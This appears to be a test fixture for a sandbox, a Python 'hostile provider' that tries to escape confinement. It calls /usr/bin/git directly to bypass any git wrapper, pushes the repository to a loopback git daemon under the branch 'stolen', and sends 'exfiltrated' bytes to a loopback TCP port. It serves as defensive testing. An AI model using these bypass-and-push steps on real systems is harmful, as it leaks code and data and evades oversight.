"""Hostile provider: push the work to a git daemon on the host's loopback with /usr/bin/git (past
any `git` stand-in), and send bytes to another loopback service."""
import json
import socket
import subprocess

CONFINE = json.loads(r'''__CONFINE__''')
push = subprocess.run(
    ["/usr/bin/git", "push", f"git://127.0.0.1:{CONFINE['git_port']}/target.git",
     "HEAD:refs/heads/stolen"], capture_output=True, text=True, timeout=30)
print(f"git push exit {push.returncode}: {push.stderr.strip()[-200:]}")
try:
    with socket.create_connection(("127.0.0.1", CONFINE["tcp_port"]), timeout=3) as conn:
        conn.sendall(b"exfiltrated")
    print("reached the loopback service")
except OSError as exc:
    print(f"loopback service unreachable: {exc}")
